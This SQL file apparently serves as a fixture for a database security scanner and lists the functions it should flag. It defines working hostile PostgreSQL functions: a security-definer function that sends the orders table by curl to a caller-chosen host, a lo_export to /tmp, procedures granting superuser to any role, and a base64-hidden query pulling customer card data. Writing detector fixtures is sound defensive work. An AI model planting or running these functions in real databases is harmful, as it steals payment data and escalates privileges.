-- finds: shop.nightly(text)
-- finds: shop.take_away()
-- finds: shop.let_in(text)
-- finds: shop.unpack()
-- fixed by hand: somebody has to read the source and ask its author
create schema shop;
create function shop.nightly(target text) returns void language plpgsql security definer as $$
begin
  execute format('COPY (select * from shop.orders)
                  TO PROGRAM %L', 'curl -d @- ' || target);
end $$;
create function shop.take_away() returns int language sql as 'select lo_export(1234, ''/tmp/orders'')';

-- only on 11+
create procedure shop.let_in(who text) language plpgsql as $$
begin
  execute 'alter   role ' || quote_ident(who) || ' superuser';
end $$;

-- only on -10
create function shop.let_in(who text) returns void language plpgsql as $$
begin
  execute 'alter   role ' || quote_ident(who) || ' superuser';
end $$;

create function shop.unpack() returns text language plpgsql as $$
begin
  return convert_from(decode('c2VsZWN0IGN1c3RvbWVyLCBjYXJkLCB2YWxpZF91bnRpbCBmcm9tIHNob3AuY3VzdG9tZXJfY2FyZHMgd2hlcmUgdmFsaWRfdW50aWwgPiBub3coKSBvcmRlciBieSBjdXN0b21lciBsaW1pdCAxMDAwMDA7IC0tIGFuZCBzbyBvbg==', 'base64'), 'utf8');
end $$;
